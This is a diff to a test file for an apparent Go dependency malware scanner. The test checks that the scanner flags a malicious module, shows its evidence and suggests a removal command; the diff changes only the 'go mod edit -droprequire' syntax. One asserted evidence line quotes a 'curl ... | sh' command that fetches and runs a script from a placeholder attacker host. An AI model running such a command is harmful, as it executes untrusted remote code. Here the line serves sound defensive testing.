@@ -58,7 +58,7 @@ test('scan of a malicious dependency: exit 1, with its evidence and the way to i
     assert.match(stdout, /^MALICIOUS {2}rsc\.io\/evil@v1\.0\.0 {2}direct, go\.mod:7 {2}MW-/)
     assert.match(stdout, /\n {5}evil\.go:6 .*curl -fsSL https:\/\/cdn\.evil\.invalid\/setup \| sh/)
     assert.match(stdout, /\n {2}reached {3}your store\/store\.go:3 imports rsc\.io\/evil\n/)
-    assert.match(stdout, /\n {2}do {8}go mod edit -droprequire rsc\.io\/evil && go mod tidy\n/)
+    assert.match(stdout, /\n {2}do {8}go mod edit -droprequire=rsc\.io\/evil && go mod tidy\n/)
   })
 })
 
